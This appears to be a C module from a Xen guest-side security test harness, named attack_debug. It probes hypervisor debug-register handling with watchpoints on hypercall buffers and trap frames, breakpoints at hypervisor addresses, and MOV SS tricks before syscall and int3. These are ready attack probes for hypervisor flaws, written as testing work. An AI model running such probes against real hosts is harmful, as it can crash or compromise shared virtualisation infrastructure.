/* SPDX-License-Identifier: MIT */
/* Breakpoints where the hypervisor reads, single steps into it. */
#include "attack.h"

#include <xen/version.h>

#define HYPERVISOR_VA 0xffff82d040200000ull
#define DR7_0_EXECUTE 0x00000401ull
#define DR7_0_WRITE8  0x00090401ull
#define DR7_0_ACCESS8 0x000b0401ull

static xen_feature_info_t info __attribute__((aligned(64)));

static void ask_features(void *arg)
{
    *(int64_t *)arg = call2(__HYPERVISOR_xen_version, XENVER_get_features, &info);
}

static mmu_update_t list[2] __attribute__((aligned(64)));

static void update_list(void *arg)
{
    *(int64_t *)arg = call4(__HYPERVISOR_mmu_update, list, 2, 0, DOMID_SELF);
}

/* A breakpoint that hits in the hypervisor is passed over: the request is served all the same. */
static void served(const char *name, void (*f)(void *))
{
    int64_t rc = 1;
    attempt(name, 0, f, &rc);
    say("  = %ld\n", rc);
}

static void watch(uint64_t at, uint64_t how)
{
    call2(__HYPERVISOR_set_debugreg, 0, at);
    call2(__HYPERVISOR_set_debugreg, 7, how);
}

static void watched_buffers(void)
{
    for (unsigned i = 0; i < 2; i++)
        list[i] = (mmu_update_t){slot_address(100, i), 0};
    watch((uint64_t)&info, DR7_0_ACCESS8);
    served("watched argument", ask_features);
    watch((uint64_t)&info, DR7_0_WRITE8);
    served("watched result", ask_features);
    watch((uint64_t)list, DR7_0_ACCESS8);
    served("watched list", update_list);
    watch((uint64_t)(list + 1), DR7_0_ACCESS8);
    served("watched second element", update_list);
    watch((uint64_t)shared_info, DR7_0_ACCESS8);
    served("watched shared_info", ask_features);
    watch(((uint64_t)__builtin_frame_address(0) - 16384) & ~63ull, DR7_0_ACCESS8);
    served("watched stack", ask_features);
    watch(pvg_trap_stub(0), DR7_0_EXECUTE);
    served("breakpoint in a handler", ask_features);
}

/* The trap's own frame, which ends at the stack pointer, is written under a watchpoint: by the
 * hypervisor, and then by the handler, whose own trap it is that comes back. */
static void read_it(void *arg)
{
    uint64_t rsp;
    __asm__ volatile("movq %%rsp, %0" : "=r"(rsp));
    watch((rsp & ~15ull) - 32, DR7_0_WRITE8);
    (void)*(volatile uint64_t *)arg;
}

static void watched_frame(void)
{
    attempt("watched frame", 0, read_it, (void *)HYPERVISOR_VA);
}

static void forbidden(void)
{
    static const uint64_t at[] = {HYPERVISOR_VA, 0xffff800000000000ull, 0xffff87fffffffff8ull,
                                  0x0000800000000000ull, ~0ull};
    for (unsigned i = 0; i < 5; i++)
        say("breakpoint at %lx: %ld\n", at[i], call2(__HYPERVISOR_set_debugreg, 1, at[i]));
    for (unsigned bit = 0; bit < 64; bit++)
        call2(__HYPERVISOR_set_debugreg, 7, 1ull << bit);
    for (unsigned bit = 0; bit < 64; bit++)
        call2(__HYPERVISOR_set_debugreg, 6, 1ull << bit);
    defaults();
}

/* MOV to DR by the guest itself. */
static void move_to_debug(void *arg)
{
    __asm__ volatile("mov %0, %%db0; mov %1, %%db7" : : "r"(arg), "r"(DR7_0_ACCESS8));
}

static void step_syscall(void *arg)
{
    (void)arg;
    __asm__ volatile("pushfq; orq $0x100, (%%rsp); popfq\n\t"
                     "mov $17, %%eax; xor %%edi, %%edi; xor %%esi, %%esi; syscall\n\t"
                     "nop; nop\n\t"
                     "pushfq; andq $~0x100, (%%rsp); popfq"
                     :
                     :
                     : "rax", "rdi", "rsi", "rcx", "r11", "memory", "cc");
}

static void shadow_syscall(void *arg)
{
    (void)arg;
    __asm__ volatile("pushfq; orq $0x100, (%%rsp); popfq\n\t"
                     "mov %%ss, %%edx; mov $17, %%eax; xor %%edi, %%edi; xor %%esi, %%esi\n\t"
                     "mov %%edx, %%ss; syscall\n\t"
                     "nop\n\t"
                     "pushfq; andq $~0x100, (%%rsp); popfq"
                     :
                     :
                     : "rax", "rdx", "rdi", "rsi", "rcx", "r11", "memory", "cc");
}

/* MOV SS from watched memory, then straight into the hypervisor. */
static void shadow_watched(void *arg)
{
    __asm__ volatile("mov $17, %%eax; xor %%edi, %%edi; xor %%esi, %%esi\n\t"
                     "mov (%0), %%ss; syscall"
                     :
                     : "r"(arg)
                     : "rax", "rdi", "rsi", "rcx", "r11", "memory", "cc");
}

static void shadow_int(void *arg)
{
    __asm__ volatile("mov (%0), %%ss; int3" : : "r"(arg) : "memory");
}

static void stepping(void)
{
    static uint64_t selector __attribute__((aligned(64))) = FLAT_KERNEL_SS;
    steps_left = 1000;
    attempt("steps across a syscall", 0, step_syscall, NULL);
    say("steps seen %lu\n", 1000 - steps_left);
    steps_left = 1000;
    attempt("steps across mov ss, syscall", 0, shadow_syscall, NULL);
    say("steps seen %lu\n", 1000 - steps_left);
    steps_left = 0;
    watch((uint64_t)&selector, DR7_0_ACCESS8);
    attempt("watched mov ss, syscall", 0, shadow_watched, &selector);
    watch((uint64_t)&selector, DR7_0_ACCESS8);
    attempt("watched mov ss, int3", 0, shadow_int, &selector);
}

void attack_debug(void)
{
    watched_buffers();
    watched_frame();
    forbidden();
    attempt("mov to dr", 0, move_to_debug, (void *)HYPERVISOR_VA);
    stepping();
}
